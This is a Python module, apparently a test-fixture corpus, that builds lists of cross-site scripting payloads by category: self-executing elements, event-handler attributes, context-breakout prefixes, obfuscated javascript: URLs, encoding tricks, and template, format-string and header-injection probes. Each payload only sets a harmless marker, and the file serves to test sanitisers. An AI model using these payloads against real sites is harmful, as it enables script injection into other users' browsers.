"""What is written where a name or a title belongs, to run in somebody else's browser (FAULTS 48).

Each would set `window.hit`. Written for this project, by kind: elements that act by themselves,
ways out of the place where a text stands, spellings of a script's address, other languages' marks.
"""

RUN = "window.hit=1"
ACTING = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN} /><a><text>x</text></a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<div style=\"background:url('javascript:{RUN}')\">",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"<!DOCTYPE x [<!ENTITY e '{RUN}'>]><script>&e;</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
]
HANDLED = [
    f"<{element} {event}={RUN}{rest}>"
    for element, event, rest in (
        ("img src=x", "onerror", ""),
        ("img/src=x", "onerror", "/"),
        ("image src=x", "onerror", ""),
        ("svg", "onload", ""),
        ("svg/", "onload", ""),
        ("body", "onload", ""),
        ("body", "onpageshow", ""),
        ("body", "onhashchange", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("button autofocus", "onfocus", ""),
        ("a tabindex=1 autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""),
        ("video src=x", "onerror", ""),
        ("video", "onloadstart", "><source src=x"),
        ("audio src=x", "onerror", ""),
        ("audio controls", "onplay", ""),
        ("track src=x", "onerror", ""),
        ("object data=x", "onerror", ""),
        ("iframe", "onload", ""),
        ("frameset", "onload", ""),
        ("marquee", "onstart", ""),
        ("keygen autofocus", "onfocus", ""),
        ("div contenteditable autofocus", "onfocus", ""),
        ("x", "onclick", ">x</x"),
        ("b", "onmouseover", ">x</b"),
        ("p", "onpointerenter", ">x</p"),
        ("dialog open", "onclose", ""),
        ("style", "onload", "></style"),
        ("link rel=icon href=x", "onerror", ""),
        ("script src=x", "onerror", "></script"),
    )
]
LEAVING = [
    before + payload
    for before in (
        *(
            '"',
            "'",
            "`",
            '">',
            "'>",
            '"/>',
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "</noscript>",
        ),
        *(
            "</template>",
            "</iframe>",
            "</select>",
            "</a>",
            "-->",
            "]]>",
            "?>",
            "\\",
            "&#34;>",
            "\N{NO-BREAK SPACE}",
        ),
    )
    for payload in (f"<svg/onload={RUN}>", f" onmouseover={RUN} autofocus onfocus={RUN} x=")
]
SPELT = [
    *(f"{spelling}{RUN}" for spelling in (
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript\t:",
        "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript://%0a",
        "vbscript:", "data:text/html,<script>", "view-source:javascript:",
        "feed:javascript:", "jar:javascript:", "livescript:", "mocha:", "javascript\\x3a",
    )),
    *(f"<a href='{spelling}{RUN}'>x</a>" for spelling in (
        "javascript:", "&#x6A;avascript:", "java&Tab;script:", "java&NewLine;script:", "&#14; javascript:",
        "javascript&colon;", "//javascript:", "data:text/html;base64,",
    )),
    f"[x](javascript:{RUN})",
    f"![x](x \"onerror={RUN}\")",
    f"<javascript:{RUN}>",
    f"[[javascript:{RUN} x]]",
    f"[javascript:{RUN} x]",
    f"<nowiki><script>{RUN}</script></nowiki>",
    f"{{{{{RUN}}}}}${{{RUN}}}#{{{RUN}}}",
    "{% print(1) %}{{ 7*7 }}",
    "%(x)s%n%s{0}",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{RUN}",
    f"\N{RIGHT-TO-LEFT OVERRIDE}<b onfocus={RUN}>",
    f"<\N{ZERO WIDTH SPACE}script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
]  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*ACTING, *HANDLED, *LEAVING, *SPELT]))
# As words of a turn, which hold no breaking space: a stroke parts attributes as well.
WORDS = tuple("/".join(payload.split()) for payload in PAYLOADS)
